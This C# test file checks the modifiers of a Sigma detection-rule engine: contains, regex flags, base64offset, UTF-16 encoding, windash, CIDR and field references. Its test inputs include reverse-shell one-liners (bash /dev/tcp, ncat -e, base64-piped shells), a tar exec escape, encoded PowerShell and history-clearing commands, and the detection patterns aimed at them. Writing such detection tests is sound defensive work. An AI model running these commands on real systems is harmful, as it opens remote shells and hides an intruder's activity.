using System.Text;
using Detektr.Sigma.Rules;

namespace Detektr.Sigma.Tests.Detection;

public sealed class ModifierTests
{
    [Fact]
    public void Contains_matches_anywhere_in_the_value()
    {
        SigmaRule rule = Rules.Load("""
            selection:
                CommandLine|contains: '/dev/tcp/'
            condition: selection
            """);

        Assert.True(rule.Matches(("CommandLine", "bash -i >& /DEV/TCP/10.0.0.1/4444 0>&1")));
        Assert.False(rule.Matches(("CommandLine", "bash -i /dev/udp/10.0.0.1/53")));
    }

    [Fact]
    public void Startswith_and_endswith_anchor_one_side()
    {
        SigmaRule starts = Rules.Load("""
            selection:
                CurrentDirectory|startswith: '/tmp/'
            condition: selection
            """);
        SigmaRule ends = Rules.Load("""
            selection:
                Image|endswith: '/crontab'
            condition: selection
            """);

        Assert.True(starts.Matches(("CurrentDirectory", "/tmp/x")));
        Assert.False(starts.Matches(("CurrentDirectory", "/var/tmp/x")));
        Assert.True(ends.Matches(("Image", "/usr/bin/crontab")));
        Assert.False(ends.Matches(("Image", "/usr/bin/crontab.bak")));
    }

    [Fact]
    public void All_requires_every_value_of_the_list()
    {
        SigmaRule rule = Rules.Load("""
            selection:
                CommandLine|contains|all:
                    - 'tar '
                    - ' --checkpoint-action=exec'
            condition: selection
            """);

        Assert.True(rule.Matches(("CommandLine", "tar cf /dev/null x --checkpoint=1 --checkpoint-action=exec=sh")));
        Assert.False(rule.Matches(("CommandLine", "tar cf /dev/null x")));
    }

    [Fact]
    public void Re_searches_case_sensitively_and_its_flags_change_that()
    {
        SigmaRule plain = Rules.Load("""
            selection:
                CommandLine|re: 'nc(at)? .*-e'
            condition: selection
            """);
        SigmaRule insensitive = Rules.Load("""
            selection:
                CommandLine|re|i: '^bash -i'
            condition: selection
            """);
        SigmaRule multiline = Rules.Load("""
            selection:
                CommandLine|re|m: '^curl'
            condition: selection
            """);
        SigmaRule dotAll = Rules.Load("""
            selection:
                CommandLine|re|s: 'echo.+sh'
            condition: selection
            """);

        Assert.True(plain.Matches(("CommandLine", "/usr/bin/ncat 10.0.0.1 -e /bin/sh")));
        Assert.False(plain.Matches(("CommandLine", "NC 10.0.0.1 -E /bin/sh")));
        Assert.True(insensitive.Matches(("CommandLine", "BASH -I")));
        Assert.False(insensitive.Matches(("CommandLine", "sh -c bash -i")));
        Assert.True(multiline.Matches(("CommandLine", "set -e\ncurl http://x")));
        Assert.False(Rules.Load("""
            selection:
                CommandLine|re: '^curl'
            condition: selection
            """).Matches(("CommandLine", "set -e\ncurl http://x")));
        Assert.True(dotAll.Matches(("CommandLine", "echo x\n| sh")));
        Assert.False(Rules.Load("""
            selection:
                CommandLine|re: 'echo.+sh'
            condition: selection
            """).Matches(("CommandLine", "echo x\n| sh")));
    }

    [Fact]
    public void Regex_with_lookarounds_runs_on_the_backtracking_engine()
    {
        SigmaRule rule = Rules.Load("""
            selection:
                CommandLine|re: 'curl (?!.*--fail)'
            condition: selection
            """);

        Assert.True(rule.Matches(("CommandLine", "curl http://x")));
        Assert.False(rule.Matches(("CommandLine", "curl --fail http://x")));
    }

    [Fact]
    public void Base64_matches_the_encoded_value_exactly()
    {
        string encoded = Convert.ToBase64String(Encoding.UTF8.GetBytes("bash -i"));
        SigmaRule rule = Rules.Load("""
            selection:
                CommandLine|base64|contains: 'bash -i'
            condition: selection
            """);

        Assert.True(rule.Matches(("CommandLine", $"echo {encoded} | base64 -d | sh")));
        Assert.False(rule.Matches(("CommandLine", $"echo {encoded.ToLowerInvariant()} | base64 -d | sh")));
        Assert.False(rule.Matches(("CommandLine", "echo bash -i")));
    }

    [Theory]
    [InlineData("")]
    [InlineData("x")]
    [InlineData("xy")]
    [InlineData("prefix text; ")]
    public void Base64offset_finds_the_value_at_any_byte_offset_of_a_larger_encoding(string before)
    {
        SigmaRule rule = Rules.Load("""
            selection:
                CommandLine|base64offset|contains: '/bin/sh -i'
            condition: selection
            """);

        string payload = Convert.ToBase64String(Encoding.UTF8.GetBytes(before + "/bin/sh -i >& /dev/tcp/x/1 0>&1"));
        Assert.True(rule.Matches(("CommandLine", $"echo {payload} | base64 -d | bash")));
        string other = Convert.ToBase64String(Encoding.UTF8.GetBytes(before + "/bin/ls -la"));
        Assert.False(rule.Matches(("CommandLine", $"echo {other} | base64 -d | bash")));
    }

    [Theory]
    [InlineData("utf16le", "a")]
    [InlineData("wide", "ab")]
    [InlineData("utf16be", "")]
    public void Utf16_modifiers_encode_before_base64offset(string modifier, string before)
    {
        SigmaRule rule = Rules.Load($"""
            selection:
                CommandLine|{modifier}|base64offset|contains: 'Invoke-Expression'
            condition: selection
            """);

        Encoding encoding = modifier == "utf16be" ? Encoding.BigEndianUnicode : Encoding.Unicode;
        string payload = Convert.ToBase64String(encoding.GetBytes(before + "Invoke-Expression(x)"));
        string utf8Payload = Convert.ToBase64String(Encoding.UTF8.GetBytes(before + "Invoke-Expression(x)"));
        Assert.True(rule.Matches(("CommandLine", "pwsh -enc " + payload)));
        Assert.False(rule.Matches(("CommandLine", "pwsh -enc " + utf8Payload)));
    }

    [Fact]
    public void Utf16_puts_a_byte_order_mark_before_the_text()
    {
        SigmaRule rule = Rules.Load("""
            selection:
                CommandLine|utf16|base64: 'id'
            condition: selection
            """);

        string encoded = Convert.ToBase64String([0xFF, 0xFE, .. Encoding.Unicode.GetBytes("id")]);
        Assert.True(rule.Matches(("CommandLine", encoded)));
        Assert.False(rule.Matches(("CommandLine", Convert.ToBase64String(Encoding.Unicode.GetBytes("id")))));
    }

    [Theory]
    [InlineData("-")]
    [InlineData("/")]
    [InlineData("\u2013")]
    [InlineData("\u2014")]
    [InlineData("\u2015")]
    public void Windash_accepts_every_dash_form_of_a_flag(string dash)
    {
        SigmaRule rule = Rules.Load("""
            selection:
                CommandLine|windash|contains: ' -exec '
            condition: selection
            """);

        Assert.True(rule.Matches(("CommandLine", $"find . {dash}exec sh ;")));
        Assert.False(rule.Matches(("CommandLine", "find . exec sh ;")));
    }

    [Fact]
    public void Windash_leaves_dashes_inside_words_alone()
    {
        SigmaRule rule = Rules.Load("""
            selection:
                CommandLine|windash: 'ssh-keygen -t'
            condition: selection
            """);

        Assert.True(rule.Matches(("CommandLine", "ssh-keygen /t")));
        Assert.False(rule.Matches(("CommandLine", "ssh/keygen -t")));
    }

    [Fact]
    public void Cidr_matches_addresses_inside_ipv4_and_ipv6_networks()
    {
        SigmaRule rule = Rules.Load("""
            selection:
                DestinationIp|cidr:
                    - '10.0.0.0/8'
                    - 'fd00::/8'
            condition: selection
            """, "network_connection");

        Assert.True(rule.Matches(Rules.Event("network_connection", ("DestinationIp", "10.200.3.4"))));
        Assert.True(rule.Matches(Rules.Event("network_connection", ("DestinationIp", "::ffff:10.1.1.1"))));
        Assert.True(rule.Matches(Rules.Event("network_connection", ("DestinationIp", "fd12:3456::1"))));
        Assert.False(rule.Matches(Rules.Event("network_connection", ("DestinationIp", "11.0.0.1"))));
        Assert.False(rule.Matches(Rules.Event("network_connection", ("DestinationIp", "fe80::1"))));
        Assert.False(rule.Matches(Rules.Event("network_connection", ("DestinationIp", "not an address"))));
    }

    [Fact]
    public void Exists_tests_presence_even_of_null_or_empty_fields()
    {
        SigmaRule present = Rules.Load("""
            selection:
                ParentCommandLine|exists: true
            condition: selection
            """);
        SigmaRule absent = Rules.Load("""
            selection:
                ParentCommandLine|exists: false
            condition: selection
            """);

        Assert.True(present.Matches(("ParentCommandLine", "")));
        Assert.True(present.Matches(("ParentCommandLine", null)));
        Assert.False(present.Matches(("Image", "/bin/sh")));
        Assert.True(absent.Matches(("Image", "/bin/sh")));
        Assert.False(absent.Matches(("ParentCommandLine", "sh")));
    }

    [Theory]
    [InlineData("gt", 1000, false)]
    [InlineData("gt", 1001, true)]
    [InlineData("gte", 1000, true)]
    [InlineData("gte", 999, false)]
    [InlineData("lt", 1000, false)]
    [InlineData("lt", 999, true)]
    [InlineData("lte", 1000, true)]
    [InlineData("lte", 1001, false)]
    public void Comparison_modifiers_compare_numbers(string modifier, int value, bool expected)
    {
        SigmaRule rule = Rules.Load($"""
            selection:
                ProcessId|{modifier}: 1000
            condition: selection
            """);

        Assert.Equal(expected, rule.Matches(("ProcessId", value)));
        Assert.Equal(expected, rule.Matches(("ProcessId", value.ToString(System.Globalization.CultureInfo.InvariantCulture))));
        Assert.False(rule.Matches(("ProcessId", "many")));
        Assert.False(rule.Matches(("Image", "/bin/sh")));
    }

    [Fact]
    public void Fieldref_compares_two_fields_of_the_event()
    {
        SigmaRule rule = Rules.Load("""
            selection:
                Image|fieldref: ParentImage
            condition: selection
            """);

        Assert.True(rule.Matches(("Image", "/bin/bash"), ("ParentImage", "/BIN/BASH")));
        Assert.False(rule.Matches(("Image", "/bin/bash"), ("ParentImage", "/bin/sh")));
        Assert.False(rule.Matches(("Image", "/bin/bash")));
        Assert.False(rule.Matches(("ParentImage", "/bin/bash")));
    }

    [Fact]
    public void Fieldref_combines_with_contains_startswith_and_endswith()
    {
        SigmaRule contains = Rules.Load("""
            selection:
                CommandLine|fieldref|contains: CurrentDirectory
            condition: selection
            """);
        SigmaRule starts = Rules.Load("""
            selection:
                CommandLine|fieldref|startswith: Image
            condition: selection
            """);
        SigmaRule ends = Rules.Load("""
            selection:
                ParentCommandLine|fieldref|endswith: CommandLine
            condition: selection
            """);

        Assert.True(contains.Matches(("CommandLine", "ls /home/alice/x"), ("CurrentDirectory", "/home/alice")));
        Assert.False(contains.Matches(("CommandLine", "ls /tmp"), ("CurrentDirectory", "/home/alice")));
        Assert.True(starts.Matches(("CommandLine", "/bin/ls -la"), ("Image", "/bin/ls")));
        Assert.False(starts.Matches(("CommandLine", "ls -la"), ("Image", "/bin/ls")));
        Assert.True(ends.Matches(("ParentCommandLine", "sh -c id"), ("CommandLine", "id")));
        Assert.False(ends.Matches(("ParentCommandLine", "id; sh"), ("CommandLine", "id")));
    }

    [Fact]
    public void Cased_makes_matching_case_sensitive()
    {
        SigmaRule rule = Rules.Load("""
            selection:
                CommandLine|cased|contains: 'HISTFILE'
            condition: selection
            """);

        Assert.True(rule.Matches(("CommandLine", "unset HISTFILE")));
        Assert.False(rule.Matches(("CommandLine", "unset histfile")));
    }

    [Fact]
    public void Neq_negates_the_item()
    {
        SigmaRule rule = Rules.Load("""
            selection:
                Image|endswith: '/sudo'
                User|neq: root
            condition: selection
            """);

        Assert.True(rule.Matches(("Image", "/usr/bin/sudo"), ("User", "alice")));
        Assert.False(rule.Matches(("Image", "/usr/bin/sudo"), ("User", "root")));
    }
}
